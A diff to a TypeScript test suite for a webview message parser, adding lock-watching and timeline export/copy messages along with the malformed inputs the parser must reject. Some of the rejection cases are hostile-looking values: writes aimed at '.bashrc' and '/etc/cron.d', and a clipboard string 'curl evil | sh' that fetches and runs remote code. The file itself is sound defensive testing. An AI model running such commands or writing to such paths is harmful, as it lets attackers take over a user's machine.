@@ -16,6 +16,10 @@ const validMessages: WebviewMessage[] = [
   { type: 'selectLock', key: KEY },
   { type: 'releaseLock', key: KEY },
   { type: 'takeOverLock', key: KEY },
+  { type: 'watchLock', key: KEY },
+  { type: 'unwatchLock', key: KEY },
+  { type: 'exportTimeline', key: KEY },
+  { type: 'copyTimeline', key: KEY },
   { type: 'saveState', state: { filter: '', selected: null, sort: { column: 'name', descending: false } } },
   { type: 'saveState', state: { filter: 'sched', selected: KEY, sort: { column: 'age', descending: true } } },
 ];
@@ -42,6 +46,10 @@ function isProtocolShape(v: unknown): boolean {
     case 'selectLock':
     case 'releaseLock':
     case 'takeOverLock':
+    case 'watchLock':
+    case 'unwatchLock':
+    case 'exportTimeline':
+    case 'copyTimeline':
       return hasExactly(v, ['type', 'key']) && isKey(v.key);
     case 'saveState': {
       if (!hasExactly(v, ['type', 'state']) || !isPlain(v.state)) return false;
@@ -87,7 +95,15 @@ const stateArb = fc.record({
 const validArb: fc.Arbitrary<WebviewMessage> = fc.oneof(
   fc.constant({ type: 'ready' as const }),
   fc.record({
-    type: fc.constantFrom('selectLock' as const, 'releaseLock' as const, 'takeOverLock' as const),
+    type: fc.constantFrom(
+      'selectLock' as const,
+      'releaseLock' as const,
+      'takeOverLock' as const,
+      'watchLock' as const,
+      'unwatchLock' as const,
+      'exportTimeline' as const,
+      'copyTimeline' as const,
+    ),
     key: keyArb,
   }),
   fc.record({ type: fc.constant('saveState' as const), state: stateArb }),
@@ -110,7 +126,20 @@ const nearMissArb = fc.anything({
     'extra',
   ),
   values: [
-    fc.constantFrom('ready', 'selectLock', 'releaseLock', 'takeOverLock', 'saveState', 'name', KEY, ''),
+    fc.constantFrom(
+      'ready',
+      'selectLock',
+      'releaseLock',
+      'takeOverLock',
+      'watchLock',
+      'unwatchLock',
+      'exportTimeline',
+      'copyTimeline',
+      'saveState',
+      'name',
+      KEY,
+      '',
+    ),
     fc.boolean(),
     fc.constant(null),
     fc.integer(),
@@ -171,6 +200,17 @@ describe('parseWebviewMessage', () => {
     ['releaseLock with an extra property', { type: 'releaseLock', key: KEY, confirmed: true }],
     ['releaseLock with an extra huge string', { type: 'releaseLock', key: KEY, note: 'x'.repeat(1_000_000) }],
     ['takeOverLock with an extra property', { type: 'takeOverLock', key: KEY, force: true }],
+    ['watchLock without a key', { type: 'watchLock' }],
+    ['watchLock for every lock at once', { type: 'watchLock', key: [KEY, KEY] }],
+    ['unwatchLock with a number key', { type: 'unwatchLock', key: 1 }],
+    ['exportTimeline with a path to write to', { type: 'exportTimeline', key: KEY, path: '/home/user/.bashrc' }],
+    ['exportTimeline with a target URI', { type: 'exportTimeline', key: KEY, uri: 'file:///etc/cron.d/x' }],
+    ['exportTimeline with a format', { type: 'exportTimeline', key: KEY, format: 'json' }],
+    ['exportTimeline with a control character in the key', { type: 'exportTimeline', key: `${KEY}\u0000` }],
+    ['copyTimeline with text to put on the clipboard', { type: 'copyTimeline', key: KEY, text: 'curl evil | sh' }],
+    ['copyTimeline with a huge key', { type: 'copyTimeline', key: 'k'.repeat(MAX_KEY_LENGTH + 1) }],
+    ['a host message sent back (showAttention)', { type: 'showAttention' }],
+    ['a type of the wrong case (WatchLock)', { type: 'WatchLock', key: KEY }],
     ['a JSON __proto__ property', JSON.parse(`{"type":"releaseLock","key":"${KEY}","__proto__":{"confirmed":true}}`)],
     ['a JSON __proto__ as the key', JSON.parse('{"type":"releaseLock","key":{"__proto__":{"toString":1}}}')],
     ['an inherited type', Object.create({ type: 'ready' }) as unknown],
